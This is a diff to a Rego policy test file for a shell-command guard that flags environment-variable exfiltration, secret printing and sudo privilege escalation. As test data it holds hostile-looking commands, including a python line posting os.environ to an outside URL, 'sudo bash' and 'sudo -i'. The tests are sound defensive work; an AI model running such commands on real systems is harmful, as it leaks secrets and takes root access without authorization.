@@ -61,6 +61,16 @@ test_env_dump_and_upload_denied if {
 	d.id == "shell/environment-exfiltration"
 }
 
+test_shell_options_are_not_an_env_dump if {
+	up := [{"program": "git", "target": "origin", "evidence": "git push origin v1"}]
+	count([d | some d in rules.decision; d.id == "shell/environment-exfiltration"]) == 0 with input as shell_input([], {"commands": [{"program": "set", "argv": ["set", "-xue"], "evidence": "set -xue"}], "uploads": up})
+	count([d | some d in rules.decision; d.id == "shell/environment-exfiltration"]) == 0 with input as shell_input([], {"commands": [{"program": "export", "argv": ["export", "TAG=v1"], "evidence": "export TAG=v1"}], "uploads": up})
+	some d in rules.decision with input as shell_input([], {"commands": [{"program": "set", "argv": ["set"], "evidence": "set"}], "uploads": up})
+	d.id == "shell/environment-exfiltration"
+	some e in rules.decision with input as shell_input([], {"commands": [{"program": "export", "argv": ["export", "-p"], "evidence": "export -p"}], "uploads": up})
+	e.id == "shell/environment-exfiltration"
+}
+
 test_env_upload_from_interpreter_denied if {
 	sh := {"uploads": [{"program": "python3", "target": "x", "evidence": "u.urlopen('https://x/', data=repr(dict(os.environ)))"}]}
 	some d in rules.decision with input as shell_input([], sh)
@@ -701,4 +711,16 @@ test_secret_print_sent_to_loopback_only_asks if {
 	u := {"program": "curl", "target": "http://127.0.0.1:8200/x", "source": "<stdin>", "evidence": "curl -d @- http://127.0.0.1:8200/x"}
 	ds := {d.id | some d in rules.decision} with input as shell_input([], {"secret_prints": [secret_print(false)], "uploads": [u]})
 	ds == {"shell/secret-print"}
+}
+
+test_root_for_an_ordinary_command_asks if {
+	sh := {"privilege": [{"kind": "sudo", "program": "sudo", "evidence": "sudo apt-get install -y jq"}], "commands": [{"program": "apt-get", "argv": ["apt-get", "install", "-y", "jq"], "wrappers": ["sudo"], "evidence": "sudo apt-get install -y jq"}]}
+	ids := {d.id | some d in rules.decision} with input as shell_input([], sh)
+	ids == {"shell/privileged-command"}
+	root_shell := {"privilege": [{"kind": "sudo", "program": "sudo", "evidence": "sudo bash"}], "commands": [{"program": "bash", "argv": ["bash"], "wrappers": ["sudo"], "evidence": "sudo bash"}]}
+	some d in rules.decision with input as shell_input([], root_shell)
+	d.id == "shell/privilege-escalation"
+	bare := {"privilege": [{"kind": "sudo", "program": "sudo", "evidence": "sudo -i"}], "commands": [{"program": "sudo", "argv": ["sudo", "-i"], "wrappers": [], "evidence": "sudo -i"}]}
+	some e in rules.decision with input as shell_input([], bare)
+	e.id == "shell/privilege-escalation"
 }
